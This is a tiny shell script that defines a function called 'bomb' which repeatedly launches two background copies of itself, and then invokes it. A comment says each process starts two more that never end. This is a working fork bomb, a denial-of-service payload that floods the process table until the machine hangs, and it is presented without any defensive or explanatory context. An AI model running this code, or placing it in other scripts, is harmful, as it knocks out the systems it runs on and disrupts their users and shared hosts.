# Every process starts two more, and none of them ever ends by itself.
bomb() {
	bomb &
	bomb &
	sleep 600
}
bomb
